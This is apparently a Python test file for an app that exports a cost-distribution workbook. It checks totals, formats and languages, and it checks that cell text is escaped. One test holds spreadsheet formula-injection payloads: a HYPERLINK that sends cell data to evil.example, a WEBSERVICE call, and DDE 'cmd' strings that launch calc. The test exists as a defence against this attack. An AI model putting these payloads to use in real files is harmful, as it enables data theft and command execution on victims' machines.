"""The distribution sheet's workbook read back with openpyxl: real numbers, totals whose SUM formulas agree
with the rows and add up to the bill, no other formula, and every text safe to open."""

from __future__ import annotations

import io
import re
from collections.abc import Iterator
from decimal import Decimal

import openpyxl
from openpyxl.cell.cell import Cell
from openpyxl.worksheet.worksheet import Worksheet

from prorata.adapters.spreadsheets.distribution_workbook import OpenpyxlDistributionWorkbook
from prorata.domain.community.model import Language
from prorata.domain.imports.safe_text import FORMULA_TRIGGERS
from prorata.domain.settlement.distribution import Distribution
from tests.distribution_samples import TERMS, sample, units

SUM = re.compile(r"^=SUM\(([A-Z]+)(\d+):([A-Z]+)(\d+)\)$")


def workbook(sheet: Distribution, language: Language = Language.EN) -> openpyxl.Workbook:
    return openpyxl.load_workbook(io.BytesIO(OpenpyxlDistributionWorkbook().render(sheet, language)))


def cells(book: openpyxl.Workbook) -> Iterator[Cell]:
    for worksheet in book.worksheets:
        for row in worksheet.iter_rows():
            yield from row


def number(cell: Cell) -> Decimal:
    assert cell.data_type == "n", (cell.coordinate, cell.value)
    assert isinstance(cell.value, int | float), (cell.coordinate, cell.value)
    return Decimal(repr(cell.value))


def summed(worksheet: Worksheet, cell: Cell) -> Decimal:
    """What a SUM formula cell computes, from the values of the cells it names."""
    match = SUM.match(str(cell.value))
    assert match, (cell.coordinate, cell.value)
    column, first, last = match[1], int(match[2]), int(match[4])
    assert match[3] == column
    return sum((number(worksheet[f"{column}{row}"]) for row in range(first, last + 1)), Decimal(0))


def row_of(worksheet: Worksheet, label: str) -> int:
    [found] = [int(c.row) for c in worksheet["A"] if c.value == label]
    return found


def test_the_totals_row_sums_every_unit_and_adds_up_to_the_bill() -> None:
    sheet = sample(25, published=True)
    book = workbook(sheet)
    assert book.sheetnames == ["Distribution", "Pools"]
    units_sheet = book["Distribution"]
    headers = [c.value for c in units_sheet[2]]
    assert headers[:6] == ["Unit", "Kind", "Coefficient", "Area (m²)", "Consumption", "Estimated"]
    assert headers[6:] == [
        "P1 Gasóleo · consumption",
        "P2 Gasóleo · fixed",
        "P3 Mantenimiento · fixed",
        "Total",
    ]
    assert [units_sheet.cell(row=3 + n, column=1).value for n in range(25)] == [r.code for r in sheet.rows]
    totals = units_sheet[row_of(units_sheet, "Total")]
    pool_sums = [summed(units_sheet, totals[6 + n]) for n in range(len(sheet.pools))]
    assert pool_sums == [p.amount for p in sheet.pools]
    receipts = summed(units_sheet, totals[9])
    bill = number(units_sheet.cell(row=row_of(units_sheet, "Bill"), column=10))
    assert receipts == bill == Decimal("6603.45") == sum(pool_sums)
    assert number(units_sheet.cell(row=row_of(units_sheet, "Difference"), column=10)) == 0
    assert units_sheet.cell(row=row_of(units_sheet, "Check"), column=2).value == (
        "the receipts add up to the bill, to the cent"
    )
    assert summed(units_sheet, totals[2]) == sheet.key_total("coefficient")
    assert units_sheet.freeze_panes == "B3"


def test_each_row_holds_numbers_that_add_up_to_its_total() -> None:
    sheet = sample(6)
    units_sheet = workbook(sheet)["Distribution"]
    for index, row in enumerate(sheet.rows):
        values = units_sheet[3 + index]
        assert [number(values[n]) for n in (2, 3, 4)] == [row.coefficient, row.area, row.consumption]
        amounts = [number(values[6 + n]) for n in range(len(sheet.pools))]
        assert amounts == list(row.amounts)
        assert sum(amounts) == number(values[9]) == row.total
        assert values[6].number_format == "#,##0.00"
        assert values[4].number_format == "#,##0.###"


def test_the_pools_sheet_gives_each_rate_and_the_check() -> None:
    sheet = sample(9)
    pools = workbook(sheet)["Pools"]
    assert [c.value for c in pools[1]] == [
        "Pool",
        "Concept",
        "Part",
        "Shared by",
        "Amount",
        "Total weight",
        "Rate",
    ]
    for index, pool in enumerate(sheet.pools):
        row = pools[2 + index]
        assert [row[0].value, row[1].value, row[2].value] == [f"P{index + 1}", pool.concept, pool.part.value]
        assert number(row[4]) == pool.amount
        assert number(row[5]) == pool.total_weight
        assert pool.rate is not None
        assert number(row[6]) == pool.rate
        assert row[6].number_format == "#,##0.000000"
    total = pools.cell(row=row_of(pools, "Total"), column=5)
    assert summed(pools, total) == sheet.bill
    assert number(pools.cell(row=row_of(pools, "Receipts total"), column=5)) == sheet.receipts_total
    assert pools.freeze_panes == "A2"


def test_no_formula_but_the_totals_and_no_text_that_would_run() -> None:
    hostile = units(4)
    hostile[0]["unit"] = '=HYPERLINK("http://evil.example/?"&A1,"ver")'
    hostile[1]["unit"] = "+1+cmd|' /C calc'!A0"
    hostile[2]["unit"] = "@SUM(1+1)"
    hostile[3]["unit"] = "-2+3"
    costs = [{"concept": '=WEBSERVICE("http://evil.example")', "amount": "100.00"}]
    sheet = sample(
        terms={**TERMS, "costs": costs}, contract_units=hostile, community_name="=cmd|' /C calc'!A0"
    )
    book = workbook(sheet)
    formulas = [c for c in cells(book) if c.data_type == "f"]
    totals_rows = {(c.parent.title, c.row) for c in formulas}
    assert totals_rows == {("Distribution", 3 + len(sheet.rows)), ("Pools", 2 + len(sheet.pools))}
    assert all(SUM.match(str(c.value)) for c in formulas)
    texts = [c.value for c in cells(book) if isinstance(c.value, str) and c.data_type != "f"]
    assert [t for t in texts if t.startswith(FORMULA_TRIGGERS)] == []
    assert "'" + hostile[0]["unit"] in texts
    assert "'@SUM(1+1)" in texts
    assert "'-2+3" in texts
    assert '\'=WEBSERVICE("http://evil.example")' in texts  # the pools sheet's concept
    assert any(t.startswith("P1 =WEBSERVICE") for t in texts)  # the column header, not at the start
    assert book["Distribution"]["A1"].value.startswith("Distribution sheet · =cmd")


def test_the_words_follow_the_language_and_the_numbers_stay_numbers() -> None:
    sheet = sample(3)
    book = workbook(sheet, Language.ES)
    assert book.sheetnames == ["Reparto", "Partidas"]
    units_sheet = book["Reparto"]
    assert [c.value for c in units_sheet[2]][:5] == [
        "Unidad",
        "Tipo",
        "Coeficiente",
        "Superficie (m²)",
        "Consumo",
    ]
    assert units_sheet["B3"].value == "vivienda"
    assert number(units_sheet.cell(row=row_of(units_sheet, "Factura"), column=10)) == Decimal("6603.45")
    assert workbook(sheet, Language.FR).sheetnames == ["Répartition", "Postes"]


def test_a_unit_whose_consumption_was_estimated_is_marked() -> None:
    estimated = units(5)
    del estimated[4]["readings"]
    terms = {**TERMS, "estimation": {"method": "area_average", "max_area_share": "0.25"}}
    sheet = sample(terms=terms, contract_units=estimated)
    units_sheet = workbook(sheet)["Distribution"]
    assert [units_sheet.cell(row=3 + n, column=6).value for n in range(5)] == [None, None, None, None, "yes"]
    assert any(c.value == "* estimated consumption (the unit had no reading)." for c in units_sheet["A"])
